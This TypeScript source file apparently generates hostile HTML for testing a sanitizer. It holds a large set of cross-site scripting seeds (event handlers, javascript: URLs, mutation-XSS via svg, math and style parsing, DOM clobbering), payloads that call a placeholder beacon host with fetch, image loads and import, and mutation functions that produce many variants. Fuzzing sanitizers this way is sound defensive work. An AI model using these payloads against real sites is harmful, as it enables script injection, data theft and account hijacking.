const beacon = '//beacon.example/hit'

/** What an attack tries to run or load. */
const payloads = [
  'alert(1)',
  'confirm(2)',
  `fetch('https:${beacon}')`,
  'top.hacked=1',
  `(new Image).src='https:${beacon}'`,
  `import('https:${beacon}')`,
  'document.body.append(1),prompt(3)',
]

/** The families of script injection, with $ for the code and @ for an address. */
const seeds = [
  '<script>$</script>',
  '<script src=@></script>',
  '<img src=x onerror=$>',
  '<img src="@">',
  '<img srcset="@ 2x">',
  '<svg onload=$>',
  '<svg><script>$</script></svg>',
  '<svg><a xlink:href="javascript:$"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:$" /></svg>',
  '<svg><set attributeName=onmouseover to=$ /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=$>#x"></use></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=$>"></svg>',
  '<svg><style><img/src=x onerror=$></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>$</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=$&gt;">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=$></style></annotation-xml></math>',
  '<math><mi xlink:href="javascript:$">x</mi></math>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=$>"></style></h1>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$>',
  '<noscript><p title="</noscript><img src=x onerror=$>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=$>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=$>"></textarea>',
  '<title><p title="</title><img src=x onerror=$>"></title>',
  '<iframe><p title="</iframe><img src=x onerror=$>"></iframe>',
  '<noembed><p title="</noembed><img src=x onerror=$>"></noembed>',
  '<plaintext><img src=x onerror=$>',
  '<template><img src=x onerror=$></template>',
  '<select><template><style></select><img src=x onerror=$></style></template></select>',
  '<table><td background="@">x</td></table>',
  '<table><caption><svg onload=$></caption></table>',
  '<a href="javascript:$">x</a>',
  '<a href="java&#9;script:$">x</a>',
  '<a href="&#106;avascript:$">x</a>',
  '<a href=" javascript:$">x</a>',
  '<a href="data:text/html,<script>$</script>">x</a>',
  '<a href="vbscript:$">x</a>',
  '<a href="https://ok.example" onclick=$ ping="@">x</a>',
  '<a style="background:url(@)">x</a>',
  '<p style="background-image:url(javascript:$)">x</p>',
  '<p style="width:expression($)">x</p>',
  '<p style="color:red;behavior:url(@)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p style="color:\\75rl(@)">x</p>',
  '<p style="font-family:\'}</style><img src=x onerror=$>\'">x</p>',
  "<p style='color:\"&gt;&lt;img src=x onerror=$&gt;'>x</p>",
  '<style>@import "@";</style>',
  '<style>*{background:url(@)}</style>',
  '<link rel=stylesheet href="@">',
  '<link rel=prefetch href="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '<base href="https:@">',
  '<object data="@"></object>',
  '<embed src="@">',
  '<applet code=x></applet>',
  '<iframe src="javascript:$"></iframe>',
  '<iframe srcdoc="<script>$</script>"></iframe>',
  '<frameset onload=$><frame src=@></frameset>',
  '<form action="javascript:$"><input type=submit autofocus onfocus=$></form>',
  '<button formaction="javascript:$">x</button>',
  '<input autofocus onfocus=$>',
  '<video src="@" onerror=$ autoplay></video>',
  '<audio src="@" onerror=$></audio>',
  '<video poster="@"></video>',
  '<details open ontoggle=$>x</details>',
  '<marquee onstart=$>x</marquee>',
  '<body onload=$>',
  '<div onpointerenter=$ style="width:999px;height:999px">x</div>',
  '<p id=body name=forms>clobbers</p>',
  '<a id=location name=cookie href="https://ok.example">x</a>',
  '<form id=x><input name=attributes><input name=parentNode></form>',
  '<img name=getElementById src=x>',
  '<font color="red" face="x" size="7" onclick=$>x</font>',
  '<li><ul><table><tr><td onmouseover=$>x',
  '<!--><img src=x onerror=$>-->',
  '<!--<img src="--><img src=x onerror=$>">',
  '<![CDATA[<img src=x onerror=$>]]>',
  '<?xml version="1.0"?><img src=x onerror=$>',
  '<span data-placeholder="x}}<img src=x onerror=$>">x</span>',
  '<p data-pm-slice=\'1 1 ["constructor",null]\'>x</p>',
  '<p class="fixed inset-0 z-50" slot=x is=y contenteditable>x</p>',
]

const wrappers: [open: string, close: string][] = [
  ['', ''],
  ['<p>', '</p>'],
  ['<table><tr><td>', '</td></tr></table>'],
  ['<ul><li>', '</li></ul>'],
  ['<blockquote>', '</blockquote>'],
  ['<svg>', '</svg>'],
  ['<math>', '</math>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<select><option>', '</option></select>'],
  ['<b><i><u>', '</i></b></u>'],
  ['<a href="https://ok.example">', '</a>'],
  ['<noscript>', '</noscript>'],
  ['<div><div><div>', '</div>'],
]

type Random = (below: number) => number

const mutations: ((text: string, random: Random) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replace(/ (on\w+)=/g, '\n$1\t='),
  (text) => text.replaceAll(' on', '/on'),
  (text) => text.replace(/>$/, ''),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('"', "'"),
  (text) => text.replaceAll('script', 'scr<b>ipt'),
  (text) => `${text.slice(0, 12)}<x>${text.slice(12)}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('javascript:', 'JaVa\nScRiPt\u0001:'),
  (text, random) => text.slice(0, random(text.length)) + text,
  (text, random) => text + text.slice(random(text.length)),
  (text, random) => {
    const at = random(text.length)
    return `${text.slice(0, at)}${['<!--', '-->', '</', '<svg>', '</p>', '"', '`', '&#x3c;'][random(8)]}${text.slice(at)}`
  },
]

/** Returns the same random numbers for the same seed (mulberry32). */
function randomFrom(seed: number): Random {
  let state = seed
  return (below) => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below
  }
}

/** Lists hostile HTML: each family first, then combinations of families, wrappers and mutations. */
export function hostileHtml(count: number, seed = 1): string[] {
  const random = randomFrom(seed)
  const pick = <T>(all: readonly T[]): T => all[random(all.length)] as T // not empty
  return Array.from({ length: count }, (_, index) => {
    const family = seeds[index] ?? pick(seeds)
    const plain = family.replaceAll('$', pick(payloads)).replaceAll('@', beacon)
    if (index < seeds.length) return plain
    const [open, close] = pick(wrappers)
    return pick(mutations)(open + pick(mutations)(plain, random) + close, random)
  })
}
